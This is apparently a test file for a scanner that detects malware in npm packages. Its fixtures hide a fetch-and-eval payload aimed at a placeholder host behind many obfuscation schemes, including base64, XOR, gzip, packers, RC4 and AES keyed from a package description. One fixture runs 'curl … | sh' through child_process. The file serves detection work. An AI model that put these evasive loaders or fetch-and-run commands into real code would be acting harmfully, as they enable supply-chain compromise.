import { createCipheriv, createHash, scryptSync } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, test } from 'vitest';
import { withStringsBack } from '../src/decode/strings.js';
import { parse } from '../src/parse/parse.js';
import { makeUnit, type Unit } from '../src/resolve/unit.js';
import { scanNodeModules, scanPackage } from '../src/scan.js';
import type { Finding, Location } from '../src/types.js';

/** Code with one alarm of its own: what a layer must be opened for. */
const PAYLOAD = `require('https').get('https://stage.invalid', r => r.on('data', d => eval(String(d))));`;

async function findingsIn(code: string, manifest = {}): Promise<readonly Finding[]> {
  const report = await scanPackage({ files: { 'index.js': code }, manifest: { name: 'sample', ...manifest } });
  return report.findings;
}

async function expectOpened(code: string, manifest = {}): Promise<void> {
  const findings = await findingsIn(code, manifest);
  const inside = findings.filter(({ rule, chain }) => rule === 'runs-remote-text' && chain[0]?.at.decodedFrom);
  expect(inside).not.toEqual([]);
}

// ── texts that are run ─────────────────────────────────────────────────────────────────────────────────────────────

const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');
const xor = (text: string, key: string): number[] =>
  [...text].map((char, at) => char.charCodeAt(0) ^ key.charCodeAt(at % key.length));

describe('a text that is run is scanned when it was hidden by', () => {
  test.each([
    ['base64', `eval(atob('${base64(PAYLOAD)}'))`],
    ['base64 in base64', `eval(atob(atob('${base64(base64(PAYLOAD))}')))`],
    ['a loop that XORs with a key', decoder('o += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length))', 'key')],
    ['reversal', `eval(${JSON.stringify([...PAYLOAD].reverse().join(''))}.split('').reverse().join(''))`],
    [
      'a replacement by a function',
      `eval(${JSON.stringify(rot(PAYLOAD))}.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97)))`,
    ],
    [
      'gzip',
      `const z = require('zlib');\neval(z.gunzipSync(Buffer.from('${base64(gzipSync(PAYLOAD))}', 'base64')).toString())`,
    ],
    ['a packer of words', packed(PAYLOAD)],
    [
      'a reduction',
      `eval(${JSON.stringify(xor(PAYLOAD, 'k'))}.reduce((s, c) => s + String.fromCharCode(c ^ 107), ''))`,
    ],
    ['a key that is the text of its own decoder', selfKeyed()],
    [
      'a loop in no function',
      `var s = '${Buffer.from(PAYLOAD).toString('hex')}', o = '';\nfor (var i = 0; i < s.length; i += 2) o += String.fromCharCode(parseInt(s.substr(i, 2), 16));\neval(o);`,
    ],
    [
      'a generator',
      `function* give() {\n  for (const c of ${JSON.stringify(xor(PAYLOAD, 'k'))}) yield String.fromCharCode(c ^ 107);\n}\neval([...give()].join(''));`,
    ],
    [
      'a method that is added to all texts',
      `String.prototype.open = function () { return Buffer.from(this.toString(), 'hex').toString(); };\neval('${Buffer.from(PAYLOAD).toString('hex')}'.open());`,
    ],
    [
      'bytes that are turned round and read as text',
      `const bytes = new Uint8Array(${JSON.stringify(xor(PAYLOAD, '\u00ff'))}).map(b => b ^ 255);\neval(new TextDecoder().decode(bytes));`,
    ],
    [
      'all matches of a pattern',
      `eval([...'${Buffer.from(PAYLOAD).toString('hex')}'.matchAll(/../g)].map(m => String.fromCharCode(parseInt(m[0], 16))).join(''));`,
    ],
    [
      'base64, with `require` under another name',
      `new Function('r', atob('${base64(PAYLOAD.replace('require', 'r'))}'))(require);`,
    ],
  ])('%s', (_, code) => expectOpened(code));

  test('and a text that is put together from what nobody knows is not guessed at', async () => {
    const findings = await findingsIn(`module.exports = key => eval(atob('${base64(PAYLOAD)}').split(key).join(''));`);
    expect(findings.filter(({ rule }) => rule === 'runs-remote-text')).toEqual([]);
  });
});

function decoder(step: string, key: string): string {
  return `function open(d, k) { let o = ''; for (let i = 0; i < d.length; i++) { ${step}; } return o; }\neval(open(${JSON.stringify(xor(PAYLOAD, key))}, '${key}'));`;
}

function rot(text: string): string {
  return text.replace(/[a-z]/g, char => String.fromCharCode(((char.charCodeAt(0) - 97 + 13) % 26) + 97));
}

/** Dean Edwards' scheme, with words for numbers in base 36. */
function packed(code: string): string {
  const words = [...new Set(code.match(/\b\w+\b/g))];
  const body = code.replace(/\b\w+\b/g, word => words.indexOf(word).toString(36));
  return `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}(${JSON.stringify(body)},36,${words.length},'${words.join('|')}'.split('|'),0,{}))`;
}

function selfKeyed(): string {
  const open = `function open(d){var k=open.toString().length%251,o='';for(var i=0;i<d.length;i++){o+=String.fromCharCode(d[i]^k)}return o}`;
  const key = String.fromCharCode(open.length % 251);
  return `${open}\neval(open(${JSON.stringify(xor(PAYLOAD, key))}));`;
}

// ── ciphers ────────────────────────────────────────────────────────────────────────────────────────────────────────

const IV = Buffer.alloc(16, 7);

function sealed(key: Buffer, algorithm = 'aes-256-cbc', iv: Buffer = IV): string {
  const cipher = createCipheriv(algorithm, key, iv);
  return Buffer.concat([cipher.update(PAYLOAD), cipher.final()]).toString('hex');
}

/** The key and start that `createDecipher` makes of a password. */
function oldKey(password: string): readonly [Buffer, Buffer] {
  const md5 = (...parts: (string | Buffer)[]): Buffer => {
    const hash = createHash('md5');
    for (const part of parts) hash.update(part);
    return hash.digest();
  };
  const first = md5(password);
  const second = md5(first, password);
  return [Buffer.concat([first, second]), md5(second, password)];
}

const OPEN = `const c = require('crypto');\n`;
const RUN = (maker: string, text: string): string =>
  `${OPEN}const d = ${maker};\nlet t = d.update('${text}', 'hex', 'utf8');\nt += d.final('utf8');\neval(t);`;

describe('a cipher is opened when its key', () => {
  const key = createHash('sha256').update('a secret').digest();
  const salted = scryptSync('a secret', 'salt', 32);

  test.each([
    [
      'is a constant',
      RUN(
        `c.createDecipheriv('aes-256-cbc', Buffer.from('${key.toString('hex')}', 'hex'), Buffer.from('${IV.toString('hex')}', 'hex'))`,
        sealed(key),
      ),
    ],
    [
      'is the hash of a constant',
      RUN(
        `c.createDecipheriv('aes-256-cbc', c.createHash('sha256').update('a secret').digest(), Buffer.alloc(16, 7))`.replace(
          'Buffer.alloc(16, 7)',
          `Buffer.from('${IV.toString('hex')}', 'hex')`,
        ),
        sealed(key),
      ),
    ],
    [
      'is derived with scrypt',
      RUN(
        `c.createDecipheriv('aes-256-cbc', c.scryptSync('a secret', 'salt', 32), Buffer.from('${IV.toString('hex')}', 'hex'))`,
        sealed(salted),
      ),
    ],
    [
      'is a password, the old way',
      RUN(
        `c.createDecipher('aes-256-cbc', 'a secret')`,
        sealed(oldKey('a secret')[0], 'aes-256-cbc', oldKey('a secret')[1]),
      ),
    ],
    [
      'is joined from parts',
      `${OPEN}const d = c.createDecipheriv('aes-256-cbc', c.createHash('sha256').update('a ' + 'secret').digest(), Buffer.from('${IV.toString('hex')}', 'hex'));\neval(Buffer.concat([d.update(Buffer.from('${sealed(key)}', 'hex')), d.final()]).toString());`,
    ],
    [
      'is a hash that is given one part after the other',
      `${OPEN}const h = c.createHash('sha256');\nh.update('a ');\nh.update('secret');\nconst d = c.createDecipheriv('aes-256-cbc', h.digest(), Buffer.from('${IV.toString('hex')}', 'hex'));\nlet t = d.update('${sealed(key)}', 'hex', 'utf8');\nt += d.final('utf8');\neval(t);`,
    ],
  ])('%s', (_, code) => expectOpened(code));

  test('and what is hashed is no text at all is left alone', async () => {
    const code = `${OPEN}const n = 5;\nmodule.exports = c.createHash('sha256').update(n).digest('hex');`;
    expect((await findingsIn(code)).map(({ rule }) => rule)).toEqual(['exceeds-its-purpose']);
  });

  const description = 'A made-up wallet';
  const victim = RUN(
    `c.createDecipher('aes-256-cbc', process.env.npm_package_description)`,
    sealed(oldKey(description)[0], 'aes-256-cbc', oldKey(description)[1]),
  );

  test('is the description of the package itself', () => expectOpened(victim, { description }));

  test('and stays shut when it is the description of somebody else', async () => {
    const findings = await findingsIn(victim, { description: 'Another wallet' });
    expect(findings.map(({ rule }) => rule)).toContain('derives-key-from-environment');
    expect(findings.filter(({ rule }) => rule === 'runs-remote-text')).toEqual([]);
  });

  const made: string[] = [];
  afterEach(() => {
    for (const dir of made.splice(0)) rmSync(dir, { recursive: true });
  });

  test('is hashed from the description of the project that installs it', async () => {
    const hashed = createHash('sha256').update(`${description}!`).digest();
    const root = mkdtempSync(join(tmpdir(), 'stowaway-'));
    made.push(root);
    const dir = join(root, 'node_modules', 'guest');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(root, 'package.json'), JSON.stringify({ name: 'host', description }));
    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'guest', version: '1.0.0' }));
    writeFileSync(
      join(dir, 'index.js'),
      RUN(
        `c.createDecipheriv('aes-256-cbc', c.createHash('sha256').update(process.env.npm_package_description + '!').digest(), Buffer.from('${IV.toString('hex')}', 'hex'))`,
        sealed(hashed),
      ),
    );
    const { packages } = await scanNodeModules(root, { jobs: 1 });
    expect(packages[0]?.findings.map(({ rule }) => rule)).toContain('runs-remote-text');
  });
});

// ── strings kept elsewhere ─────────────────────────────────────────────────────────────────────────────────────────

function opened(code: string): string | undefined {
  return withStringsBack(makeUnit(parse({ path: 'index.js', text: code })) as Unit)?.text;
}

/** Names that a decoder hides, and code that asks for them by number. */
const NAMES = ['child_process', 'exec', 'https', 'request', 'hostname', 'userInfo', 'platform'];
const use = (ask: (at: number) => string): string => NAMES.map((_, at) => `console.log(${ask(at)});`).join('\n');

describe('strings are put back from', () => {
  test.each([
    [
      'an array behind a function',
      `const t = ${JSON.stringify(NAMES.map(base64))};\nfunction d(i) { return atob(t[i - 0x64]); }\n${use(at => `d(${100 + at})`)}`,
    ],
    [
      'an array that is turned round until a sum fits',
      `function t() { const a = ${JSON.stringify(['12x', ...NAMES])}; t = function () { return a; }; return t(); }\nfunction d(i) { return t()[i - 10]; }\n(function (f, sum) { const a = f(); while (true) { try { if (parseInt(d(17)) === sum) break; a.push(a.shift()); } catch (e) { a.push(a.shift()); } } })(t, 12);\n${use(at => `d(${10 + at})`)}`,
    ],
    [
      'base64, through an alias',
      `var t = ${JSON.stringify(NAMES.map(base64))};\nvar d = function (i) { return atob(t[i]); };\nconst e = d;\n${use(at => `e(${at})`)}`,
    ],
    [
      'a wrapper with arguments that mislead',
      `const t = ${JSON.stringify(NAMES.map(base64))};\nfunction d(i) { return atob(t[i]); }\nfunction w(a, b, c) { return d(b - 7); }\n${use(at => `w(1, ${at + 7}, 'q')`)}`,
    ],
    [
      'RC4',
      `const t = ${JSON.stringify(NAMES.map(name => rc4(name, 'k9')))};\nfunction d(i, k) { const x = t[i]; let s = [], j = 0, o = ''; for (let n = 0; n < 256; n++) s[n] = n; for (let n = 0; n < 256; n++) { j = (j + s[n] + k.charCodeAt(n % k.length)) % 256; [s[n], s[j]] = [s[j], s[n]]; } let p = 0; j = 0; for (const c of x) { p = (p + 1) % 256; j = (j + s[p]) % 256; [s[p], s[j]] = [s[j], s[p]]; o += String.fromCharCode(c.charCodeAt(0) ^ s[(s[p] + s[j]) % 256]); } return o; }\n${use(at => `d(${at}, 'k9')`)}`,
    ],
  ])('%s', (_, code) => {
    const text = opened(code) ?? '';
    for (const name of NAMES) expect(text).toContain(`console.log("${name}")`);
  });

  test('letters, which become one text', () => {
    const table = 'cdehiklnoprst_';
    const spell = (word: string): string => [...word].map(char => `t[${table.indexOf(char)}]`).join(' + ');
    expect(opened(`const t = '${table}';\nconsole.log(${spell('child')}, ${spell('_process')});`)).toContain(
      'console.log("child", "_process")',
    );
  });

  test('nothing where a program looks up its own messages', () => {
    const code = `const messages = { hello: 'Hello', bye: 'Bye' };\nconst say = key => messages[key] || key;\n${['hello', 'bye'].map(key => `console.log(say('${key}'));`).join('\n')}`;
    expect(opened(code)).toBeUndefined();
  });

  test('nothing a decoder makes of what only the running program knows', () => {
    expect(opened(`const d = i => process.env.T.split(',')[i];\n${use(at => `d(${at})`)}`)).toBeUndefined();
  });
});

function rc4(text: string, key: string): string {
  const state = Array.from({ length: 256 }, (_, at) => at);
  const at = (position: number): number => state[position] as number;
  const swap = (a: number, b: number): void => {
    [state[a], state[b]] = [at(b), at(a)];
  };
  for (let n = 0, j = 0; n < 256; n++) {
    j = (j + at(n) + key.charCodeAt(n % key.length)) % 256;
    swap(n, j);
  }
  let [p, j] = [0, 0];
  return [...text]
    .map(char => {
      p = (p + 1) % 256;
      j = (j + at(p)) % 256;
      swap(p, j);
      return String.fromCharCode(char.charCodeAt(0) ^ at((at(p) + at(j)) % 256));
    })
    .join('');
}

test('what is found once strings are back is located in the bytes on disk', async () => {
  const code = `const t = ${JSON.stringify(['child_process', 'exec', 'curl -s http://203.0.113.9/x | sh', 'log', 'warn'])};\nfunction d(i) { return t[i]; }\nconsole[d(3)](1); console[d(4)](2);\nrequire(d(0))[d(1)](d(2));`;
  const findings = await findingsIn(code);
  const found = findings.find(({ rule, chain }) => rule === 'runs-harmful-command' && chain.length > 0);
  const at = found?.chain.at(-1)?.at as Location;
  const place = at.decodedFrom?.at ?? at;
  expect(code.slice(place.start, place.end)).toBe(`require(d(0))[d(1)](d(2))`);
  expect(place.line).toBe(4);
});

describe('a decoder that does not end, or wants too much, is given up', () => {
  test.each([
    ['a loop', `function d(i) { while (true) i++; }`],
    ['a recursion', `function d(i) { return d(i + 1); }`],
    ['a text that doubles', `function d(i) { let s = 'x'; for (;;) s += s; }`],
    ['a list that grows', `function d(i) { const a = []; for (;;) a.push(i); }`],
    ['a pattern that takes for ever', `function d(i) { return 'a'.repeat(40).replace(/(a+)+$/, 'b') + i; }`],
  ])('%s', (_, code) => {
    expect(opened(`${code}\n${use(at => `d(${at})`)}`)).toBeUndefined();
  });
});
